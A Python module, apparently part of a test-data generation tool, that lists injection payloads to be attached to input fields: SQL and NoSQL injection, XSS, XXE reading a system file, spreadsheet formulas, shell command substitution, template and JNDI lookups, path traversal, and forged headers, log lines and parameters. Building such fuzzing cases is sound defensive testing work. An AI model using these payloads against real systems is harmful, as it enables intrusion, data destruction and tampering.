"""Texts that mean something to whoever reads them next: a database, a browser, a shell, a spreadsheet, a log.

They are textbook examples that do nothing but show themselves; addresses are of the reserved domains.
"""

from collections.abc import Iterator
from typing import Final

from testdata_agent.engine.defects.case import Case
from testdata_agent.engine.defects.defect import DefectClass
from testdata_agent.engine.defects.payloads import Texture, after, before, text_cases
from testdata_agent.engine.defects.spots import Spot

_TEXTURES: Final[dict[str, tuple[str, Texture]]] = {
    "sql_quote": ("a single quote in SQL", after("' OR '1'='1")),
    "sql_statement": ("a second SQL statement", after("'; DROP TABLE records;--")),
    "sql_like": ("wildcards of LIKE", after("%_%")),
    "nosql_operator": ("an operator of a document database", after('{"$gt": ""}')),
    "ldap_filter": ("an LDAP filter", after("*)(uid=*))(|(uid=*")),
    "html_script": ("an HTML script element", after("<script>alert(1)</script>")),
    "html_attribute": ("an HTML attribute that runs a script", after('"><img src=x onerror=alert(1)>')),
    "js_string": ("the end of a JavaScript string", after("';alert(1)//")),
    "js_url": ("a URL that runs a script", before("javascript:alert(1)//")),
    "xml_entity": ("an XML entity", after('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>&e;')),
    "csv_formula": ("a spreadsheet formula", before("=1+1+")),
    "csv_link": ("a spreadsheet link", before('=HYPERLINK("https://www.example.com","open")&')),
    "csv_command": ("a spreadsheet command", before("@SUM(1+1)*")),
    "shell_command": ("a second shell command", after("; id")),
    "shell_substitution": ("a shell substitution", after("$(id)")),
    "shell_backtick": ("a shell substitution, the old way", after("`id`")),
    "template_braces": ("a template expression", after("{{7*7}}")),
    "template_dollar": ("a template expression", after("${7*7}")),
    "template_erb": ("a template expression", after("<%= 7*7 %>")),
    "lookup": ("a lookup of a logging library", after("${jndi:ldap://www.example.com/a}")),
    "format_string": ("a format string", after("%s%n%x")),
    "path_traversal": ("a path out of its folder", before("../../../../etc/hostname#")),
    "path_windows": ("a path out of its folder, Windows", before("..\\..\\..\\boot.ini#")),
    "log_newline": ("a forged log line", after("\nINFO login succeeded user=admin")),
    "header_crlf": ("a forged HTTP header", after("\r\nSet-Cookie: session=1")),
    "json_member": ("a forged JSON member", after('","role":"admin')),
    "query_parameter": ("a forged query parameter", after("&role=admin#")),
    "slow_expression": ("a text over which greedy expressions take long", after("a" * 40 + "!")),
}


def cases(spot: Spot) -> Iterator[Case]:
    """What can be done at one place."""
    return text_cases(spot, DefectClass.INJECTION, _TEXTURES)
